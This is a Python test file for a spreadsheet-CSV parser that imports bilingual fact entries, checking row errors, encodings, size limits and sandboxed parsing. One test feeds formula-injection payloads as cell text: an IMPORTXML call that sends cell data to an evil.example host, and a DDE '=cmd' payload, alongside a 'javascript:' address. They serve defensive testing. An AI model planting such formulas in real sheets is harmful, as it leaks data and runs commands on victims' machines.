"""A published sheet's CSV: its good rows come in, its mistakes are named, nothing in a cell does anything."""

from __future__ import annotations

import time
from dataclasses import replace
from datetime import date, timedelta

import pytest

from bot.sources.cage import Cage
from bot.sources.frames import packed, unpacked
from bot.sources.parsed import BadFeed, Parsed
from bot.sources.sheet import MAX_CELL, MAX_ROWS, MAX_TOLD, parse_sheet
from content_queue.item import Entry, Kind, Version
from content_queue.naming import names_of

HEAD = "id,language,title,credit,wordings,topics,present,review_by,confirmed,kind,url,image,figure,label\n"
PRESENT = "a fact worded in the present needs review_by, the day after which it is stale"


def sheet(*rows: str, head: str = HEAD) -> bytes:
    return (head + "".join(f"{row}\r\n" for row in rows)).encode()


def read(document: bytes, content_type: str = "text/csv", language: str = "fr") -> Parsed:
    return parse_sheet(document, content_type=content_type, kind=Kind.FACT, language=language)


def titles(parsed: Parsed) -> list[str]:
    return [version.title for entry in parsed.entries for version in entry.versions]


def mistakes(parsed: Parsed) -> list[str]:
    return [str(mistake) for mistake in parsed.mistakes]


def test_rows_of_one_id_are_a_fact_in_two_languages() -> None:
    found = read(
        sheet(
            "one,fr,Un mot,Source,Deux|Trois,IA | Québec,oui,2027-01-31,,,https://site.example/1,,7530,entreprises",
            "one,en,A word,Source,,,,,,,,,,",
        )
    )
    french = Version(
        "fr", "Un mot", url="https://site.example/1", credit="Source", wordings=("Deux", "Trois"),
        figure="7530", label="entreprises",
    )  # fmt: skip
    assert found.entries == (
        Entry(
            guid="pack:one",
            kind=Kind.FACT,
            versions=(french, Version("en", "A word", credit="Source")),
            topics=("ia", "québec"),
            evergreen=True,
            review_by=date(2027, 1, 31),
        ),
    )
    assert (found.mistakes, found.unread, found.notes) == ((), (), ())


def test_what_comes_out_of_the_cage_is_the_same() -> None:
    found = read(
        sheet(
            "one,fr,Un,S,Deux|Trois,IA,oui,2027-01-31,,,,,1,mot",
            "two,fr,,S,,,,,,,,,,",
            "q,fr,C,S,,,,,2026-01-05,quote,,,,",
        )
    )
    named = replace(found, names=names_of(found.entries, whole=True))
    assert unpacked(packed(named)) == named
    assert len(named.names) == len(found.entries) == 2
    assert len(found.mistakes) == 1


def test_columns_may_have_french_names_and_cells_french_words() -> None:
    head = "Identifiant;LANGUE;Titre ;Source;Genre;Confirme;Sujets;Notes à nous\r\n"
    found = read(sheet("c;français;« Oui »;Une personne;Citation;2026-01-05;IA, santé;à revoir", head=head))
    (entry,) = found.entries
    assert (entry.kind, entry.confirmed, entry.topics) == (Kind.QUOTE, date(2026, 1, 5), ("ia", "santé"))
    assert entry.versions == (Version("fr", "« Oui »", credit="Une personne"),)


def test_one_bad_row_keeps_back_its_own_fact_alone_and_is_named_by_row_and_column() -> None:
    head = "identifiant,langue,titre,mention,à revoir,au présent\n"
    found = read(
        sheet(
            "a,fr,Un,Source,,",
            "b,fr,Deux,,31/01/2027,",
            "",
            "c,fr,Trois,Source,,oui",
            "d,de,Vier,Quelle,,",
            head=head,
        )
    )
    assert titles(found) == ["Un"]
    assert mistakes(found) == [
        "row 3, column à revoir: review_by is no day such as 2027-01-31",
        "row 3, column mention: it has no credit, its source and year",
        f"row 5, column à revoir: {PRESENT}",
        "row 6, column langue: the language is neither fr nor en",
    ]
    assert found.unread == ("pack:b", "pack:c", "pack:d")


def test_a_fact_whose_other_language_is_mistaken_waits_whole() -> None:
    found = read(sheet("a,fr,Un,Source,,,,,,,,,,", "a,en,,Source,,,,,,,,,,"))
    assert (found.entries, found.unread) == ((), ("pack:a",))
    assert mistakes(found) == ["row 3, column title: it has no title, the sentence that goes out"]


def test_an_id_and_language_stand_once() -> None:
    found = read(sheet("a,fr,Un,S,,,,,,,,,,", "b,fr,Deux,S,,,,,,,,,,", "a,fr,Trois,S,,,,,,,,,,"))
    assert titles(found) == ["Deux"]
    assert mistakes(found) == ["row 4, column id: row 2 has this id and language already"]


def test_rows_without_an_id_that_say_the_same_or_nothing_are_told_apart() -> None:
    found = read(sheet(",fr,Un,S", ",fr,UN,S", ",fr,,S", ",fr,,T"))
    assert mistakes(found) == [
        "row 3, column id: row 2 says the same already",
        "row 4, column title: it has no title, the sentence that goes out",
        "row 5, column title: it has no title, the sentence that goes out",
    ]


def test_a_row_without_an_id_is_known_by_its_words() -> None:
    one, other = (read(sheet(*rows)) for rows in (["x,fr,Autre,S", ",fr,Un mot,S"], [",fr,« UN  mot »,T"]))
    assert one.entries[1].guid == other.entries[0].guid
    assert one.entries[1].guid.startswith("pack:words:")


def test_while_a_row_without_an_id_is_mistaken_nobody_can_tell_which_fact_is_missing() -> None:
    assert read(sheet("a,fr,Un,S", ",fr,,S")).unread is None
    assert read(sheet("a,fr,Un,S", "b,fr,,S")).unread == ("pack:b",)


def test_a_row_that_names_no_language_has_the_source_s() -> None:
    assert read(sheet("a,,One,S"), language="en").entries[0].versions[0].language == "en"
    assert read(sheet("a,EN-ca,One,S")).entries[0].versions[0].language == "en"


def test_what_looks_like_a_formula_is_text_and_nothing_is_reckoned() -> None:
    cells = [
        '=IMPORTXML("https://evil.example/?"&A1,"//a")',
        "+1 514",
        "-2 %",
        "@SUM(1;1)",
        "=1+1",
        "=cmd|' /C calc'!A0",
    ]
    rows = [f'a{n},fr,"{cell.replace(chr(34), chr(34) * 2)}",S' for n, cell in enumerate(cells)]
    assert titles(read(sheet(*rows))) == cells


@pytest.mark.parametrize("cell", ["#REF!", "#N/A", "#NAME?", "#VALEUR!", "#DIV/0!"])
def test_an_error_of_the_sheet_is_no_fact(cell: str) -> None:
    found = read(sheet(f"a,fr,{cell},S"))
    assert mistakes(found) == ["row 2, column title: the sheet shows an error there, not a value"]


def test_quotes_go_over_lines_and_rows_are_counted_as_a_sheet_counts() -> None:
    found = read(sheet('a,fr,"Une phrase\r\nsur deux lignes, avec ""guillemets""",S', "b,fr,,S"))
    assert titles(found) == ['Une phrase sur deux lignes, avec "guillemets"']
    assert mistakes(found) == ["row 3, column title: it has no title, the sentence that goes out"]


def test_wordings_and_topics_may_stand_on_lines_of_a_cell() -> None:
    found = read(sheet('a,fr,Un,S,"Deux\nTrois","ia\nsanté"'))
    assert (found.entries[0].versions[0].wordings, found.entries[0].topics) == (
        ("Deux", "Trois"),
        ("ia", "santé"),
    )


@pytest.mark.parametrize(
    "document",
    [
        b"\xef\xbb\xbf" + sheet("a,fr,\u00c9t\u00e9,S"),
        sheet("a,fr,\u00c9t\u00e9,S").decode().encode("utf-16"),
        sheet("a,fr,\u00c9t\u00e9,S").decode().encode("cp1252"),
        sheet("a,fr,\u00c9\0t\u00e9,S\0"),
        b"\r\n\r\n,,\r\n" + sheet("a,fr,\u00c9t\u00e9,S"),
        sheet("a;fr;\u00c9t\u00e9;S", head=HEAD.replace(",", ";")),
        sheet("a\tfr\t\u00c9t\u00e9\tS", head=HEAD.replace(",", "\t")),
        sheet("a,fr,\u202e\u00c9t\u00e9\u200b,S").replace(b"\r\n", b"\r"),
    ],
    ids=["mark", "utf-16", "windows", "nul", "blank-rows", "semicolons", "tabs", "hidden"],
)
def test_however_it_is_written_the_words_are_the_same(document: bytes) -> None:
    assert titles(read(document)) == ["\u00c9t\u00e9"]


@pytest.mark.parametrize(
    ("document", "content_type", "line"),
    [
        (b"", "text/csv", "the sheet is empty"),
        (b" \r\n ", "text/csv", "the sheet is empty"),
        (HEAD.encode(), "text/csv", "no row below the names of its columns"),
        (HEAD.encode() + b",,,\r\n\r\n", "text/csv", "no row below the names of its columns"),
        (b"<!DOCTYPE html><title>Sign in</title>", "text/html; a=b", "it is a web page, not a sheet's CSV"),
        (b"\n<html>", "text/csv", "it is a web page"),
        (HEAD.encode(), "text/html", "it is a web page"),
        (b"PK\x03\x04rest", "application/zip", "a file of its own format"),
        (HEAD.encode() + b"a,fr,Un,S\r\n" * 400_000, "text/csv", "the sheet is larger than 4 MB"),
        (b"%PDF-1.7", "text/csv", "a file of its own format"),
        (b'{"error": "x"}', "application/json", "does not name the columns: title and credit missing"),
        (b"id,title\r\na,b", "text/csv", "does not name the columns: credit missing"),
        (b"titre,title,credit\r\na,b,c", "text/csv", "two of its columns mean title: titre, title"),
        (HEAD.encode() + b'a,fr,"' + b"x" * 200_000, "text/csv", "it is no valid CSV: field larger"),
    ],
)  # fmt: skip
def test_what_is_no_sheet_of_facts_says_so_in_one_line(document: bytes, content_type: str, line: str) -> None:
    with pytest.raises(BadFeed, match=line) as refusal:
        read(document, content_type)
    assert "\n" not in str(refusal.value)


def test_a_cell_is_bounded_and_an_image_is_an_address() -> None:
    found = read(
        sheet(f"a,fr,Un,{'x' * (MAX_CELL + 1)}", f"{'i' * 101},fr,Deux,S", "c,fr,Trois,S,,,,,,,,javascript:x")
    )
    assert mistakes(found) == [
        "row 2, column credit: it is far too long",
        "row 3, column id: it is far too long",
        "row 4, column image: image is no http or https address",
    ]


def test_a_hundred_mistakes_are_told_in_few_lines() -> None:
    told = mistakes(read(sheet(*(f"a{n},fr,,S" for n in range(100)))))
    assert (len(told), told[-1]) == (MAX_TOLD + 1, "and 80 more mistakes")


def test_a_hundred_thousand_rows_are_bounded_and_nothing_counts_as_missing() -> None:
    document = sheet(*(f"a{n},fr,Fait {n},S" for n in range(100_000)))
    began = time.process_time()
    found = read(document)
    assert time.process_time() - began < 2
    assert len(found.entries) == MAX_ROWS
    assert mistakes(found) == ["only the first 2000 rows are read: 98000 stand below them"]
    assert found.unread is None


@pytest.mark.parametrize(
    "document", [b"\xff\xfe" * 5_000, b"a" * 3_000_000, b'"' * 1_000_000, b"," * 3_000_000]
)
async def test_no_document_harms_the_one_after_it(document: bytes) -> None:
    cage = Cage(workers=1, cpu=timedelta(seconds=2), memory=256 * 1024 * 1024)
    good = sheet("a,fr,Un,S")
    try:
        for each, hopeless in ((document, True), (good, False)):
            asked = cage.parse(
                each, content_type="text/csv", url="", kind=Kind.FACT, language="fr", sheet=True
            )
            if hopeless:
                with pytest.raises(BadFeed):
                    await asked
            else:
                assert (await asked).entries == read(good).entries
    finally:
        await cage.close()
